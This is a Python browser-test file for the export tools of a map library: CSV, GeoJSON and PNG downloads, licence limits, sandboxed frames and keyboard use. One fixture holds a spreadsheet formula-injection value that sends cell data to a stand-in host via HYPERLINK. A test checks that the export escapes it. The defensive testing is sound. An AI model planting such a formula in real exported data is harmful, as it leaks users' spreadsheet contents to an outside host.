"""What a reader takes away from the page: a picture, a table, places; each with its marking."""

import base64
import json
import struct
from dataclasses import replace

import pandas as pd
import pytest
from playwright.sync_api import expect

import atlas
from atlas.reference.house import SHIPPED
from atlas.reference.symbology import rgb

pytestmark = pytest.mark.browser

FORMULA = '=HYPERLINK("https://a.example/?"&A1,"open")'


@pytest.fixture(scope="module")
def briefing(record, tmp_path_factory):
    """Return the briefing of the shipped record, marked."""
    path = tmp_path_factory.mktemp("saving") / "spring-2023.html"
    return atlas.brief(record, path, marking="TLP:AMBER")


@pytest.fixture(scope="module")
def invented():
    """Return two events of which one would like to be a formula."""
    rows = {
        "title": [FORMULA, "plain"],
        "date": ["2023-04-06", "2023-04-07"],
        "longitude": [-0.5, 35.2],
        "latitude": [33.1, 33.2],
        "note": ["@SUM(A1)", "-1"],
    }
    return atlas.read_events(pd.DataFrame(rows))


def _save(page, window, word, folder):
    """Press a way to save, and return the file that comes."""
    if not page.locator("[data-name=save]").count():
        page.locator("[data-tool=save]").click()
    with window.expect_download() as coming:
        page.get_by_role("button", name=word, exact=True).click()
    path = folder / coming.value.suggested_filename
    coming.value.save_as(path)
    return path


def test_the_table_holds_what_fits_the_filters(open_page, briefing, record, tmp_path):
    """One row an event, in words, with marking and licence; `read_events` takes it back."""
    opened = open_page(briefing)
    opened.ready()
    counts = opened.select({"from": "2023-04-06", "to": "2023-04-07"})
    path = _save(opened.page, opened.page, "Table", tmp_path)
    table = pd.read_csv(path)
    chosen = record.select(from_="2023-04-06", to="2023-04-07")
    assert sorted(table["event_id"]) == sorted(chosen.events.index)
    assert set(table["handling_marking"]) == {"TLP:AMBER"}
    assert set(table["licence"]) == {record.dataset["licence"]}
    assert set(table["status"]) == set(chosen.events["status"])
    assert table["longitude"].notna().sum() == counts["shown"]
    again = atlas.read_events(path)
    assert again.counts()["shown"] == counts["shown"]
    assert opened.errors == opened.requests == []


def test_the_places_open_in_a_gis(open_page, briefing, record, tmp_path):
    """One feature a place, marking beside them, and an event without a place is not lost."""
    opened = open_page(briefing)
    opened.ready()
    path = _save(opened.page, opened.page, "Places", tmp_path)
    content = json.loads(path.read_text(encoding="utf-8"))
    assert content["handling_marking"] == "TLP:AMBER"
    assert content["content_hash"]
    features = content["features"]
    assert {one["properties"]["event_id"] for one in features} == set(record.events.index)
    drawn = {one["properties"]["event_id"] for one in features if one["geometry"]}
    assert len(drawn) == record.counts()["shown"]


def test_the_picture_is_marked_at_head_and_foot(open_page, briefing, tmp_path):
    """A PNG of at least two pixels a point, black at both ends, with colours of the map between."""
    opened = open_page(briefing)
    opened.ready()
    path = _save(opened.page, opened.page, "Picture", tmp_path)
    data = path.read_bytes()
    assert data.startswith(b"\x89PNG")
    width, height = struct.unpack(">II", data[16:24])
    colours = opened.page.evaluate(
        """async ([bytes, fire]) => {
            const bitmap = await createImageBitmap(new Blob([
                Uint8Array.from(atob(bytes), (one) => one.charCodeAt(0)),
            ]));
            const canvas = new OffscreenCanvas(bitmap.width, bitmap.height);
            const context = canvas.getContext("2d");
            context.drawImage(bitmap, 0, 0);
            const all = context.getImageData(0, 0, bitmap.width, bitmap.height).data;
            const at = (y) => [...all.subarray(4 * (y * bitmap.width + 8)).subarray(0, 3)];
            const [red, green, blue] = fire;
            let orange = 0;
            for (let i = 0; i < all.length; i += 4)
              orange += all[i] === red && all[i + 1] === green && all[i + 2] === blue;
            return { head: at(8), foot: at(bitmap.height - 8), orange };
        }""",
        [base64.b64encode(data).decode(), rgb(SHIPPED.colours("light")["fire"][0])],
    )
    assert width >= 2 * 560
    assert height > width / 2
    assert colours["head"] == colours["foot"] == [0, 0, 0]
    assert colours["orange"] > 100
    assert opened.page.evaluate("window.devicePixelRatio") == 1
    assert opened.errors == opened.requests == []


def test_no_formula_reaches_a_spreadsheet(open_page, invented, tmp_path):
    """A text that begins like a formula has an apostrophe before it; numbers have none."""
    opened = open_page(atlas.brief(invented, tmp_path / "page.html"))
    opened.ready()
    table = pd.read_csv(_save(opened.page, opened.page, "Table", tmp_path)).set_index("start")
    assert table["title"].tolist() == [f"'{FORMULA}", "plain"]
    assert table["note"].tolist() == ["'@SUM(A1)", "'-1"]
    assert table["longitude"].tolist() == [-0.5, 35.2]


def test_rows_under_a_licence_stay_where_they_are(open_page, invented, tmp_path):
    """A map of rows that may not be passed on gives a picture, no rows, and the reason."""
    dataset = {**invented.dataset, "title": "Hers", "redistribution": "none"}
    closed = replace(invented, dataset=dataset)
    (tmp_path / "cell.html").write_text(atlas.draw_map(closed)._repr_html_(), encoding="utf-8")
    opened = open_page(tmp_path / "cell.html")
    page = opened.frame()
    page.locator("[data-tool=save]").click()
    assert page.get_by_role("button", name="Table", exact=True).is_disabled()
    assert page.get_by_role("button", name="Places", exact=True).is_disabled()
    assert "Rows of Hers may not be passed on" in page.locator("[data-name=save]").inner_text()
    assert _save(page, opened.page, "Picture", tmp_path).exists()


def test_a_sandboxed_frame_saves_too(open_page, record, tmp_path):
    """In a notebook's cell the page has no origin of its own; the files come all the same."""
    (tmp_path / "cell.html").write_text(atlas.draw_map(record)._repr_html_(), encoding="utf-8")
    opened = open_page(tmp_path / "cell.html")
    page = opened.frame()
    page.evaluate("window.atlas.ready.then(() => true)")
    for word, start in (
        ("Picture", b"\x89PNG"),
        ("Table", b"\xef\xbb\xbfevent_id"),
        ("Places", b"{"),
    ):
        assert _save(page, opened.page, word, tmp_path).read_bytes().startswith(start)
    assert opened.errors == opened.requests == []


def test_saving_works_by_keyboard(open_page, briefing, tmp_path):
    """Enter opens the box, Enter on a line saves, Escape closes it and gives the focus back."""
    opened = open_page(briefing)
    opened.ready()
    page = opened.page
    tool = page.locator("[data-tool=save]")
    tool.focus()
    page.keyboard.press("Enter")
    for _ in range(4):  # what stands before it in the box
        page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "Table"
    with page.expect_download() as coming:
        page.keyboard.press("Enter")
    coming.value.save_as(tmp_path / "table.csv")
    box = page.locator("[data-name=save]")
    expect(box.get_by_role("status")).to_have_text("Saved as spring-2023.csv.")
    page.keyboard.press("Escape")
    expect(box).to_have_count(0)
    expect(tool).to_be_focused()


_DRAWERS = ["marker", "tileLayer", "canvas"]
_DRAWS = "(names) => names.filter((name) => typeof L[name] === 'function')"


@pytest.mark.parametrize(("network", "draws"), [(False, []), (True, _DRAWERS)])
def test_code_for_layers_is_only_where_some_may_come(open_page, invented, tmp_path, network, draws):
    """A page to which nobody adds a layer does not carry what would draw one."""
    page = tmp_path / "map.html"
    atlas.draw_map(invented, allow_network=network).save(page)
    opened = open_page(page)
    opened.ready()
    assert opened.page.evaluate(_DRAWS, _DRAWERS) == draws
    assert opened.errors == []
